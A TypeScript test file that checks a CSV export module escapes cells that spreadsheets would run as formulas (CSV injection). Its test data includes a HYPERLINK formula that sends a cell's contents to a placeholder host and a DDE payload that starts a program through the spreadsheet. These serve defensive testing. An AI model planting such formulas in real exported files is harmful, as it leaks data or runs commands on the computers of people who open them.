import { describe, expect, it } from 'vitest';
import Papa from 'papaparse';
import { looksLikeFormula, toCsv } from './csv-safety';

// Cases from OWASP "CSV Injection" (the characters = + - @ tab CR start a formula)
describe('CSV cells that would be formulas', () => {
  it('escapes a HYPERLINK formula in a customer name with a leading quote', () => {
    const out = toCsv(['customer'], [['=HYPERLINK("http://x/?"&A1,"Open")']]);
    const [, row] = Papa.parse<string[]>(out).data;
    expect(row[0]).toBe('\'=HYPERLINK("http://x/?"&A1,"Open")');
  });

  it.each(['=1+1', '+1', '-2+3', '@SUM(A1)', '\tx', '\rx'])('escapes %j', (cell) => {
    const [, row] = Papa.parse<string[]>(toCsv(['c'], [[cell]])).data;
    expect(row[0].startsWith("'")).toBe(true);
  });

  it('leaves plain text and numbers alone (a negative number stays a number)', () => {
    const out = toCsv(['a', 'b', 'c'], [['Harbour Rowing Club', -4.5, null]]);
    expect(out).toBe('a,b,c\r\nHarbour Rowing Club,-4.5,');
  });

  it('tells which read cells would be formulas', () => {
    expect(looksLikeFormula('=cmd|" /C calc"!A0')).toBe(true);
    expect(looksLikeFormula('@SUM(1)')).toBe(true);
    expect(looksLikeFormula('Club crest')).toBe(false);
  });
});
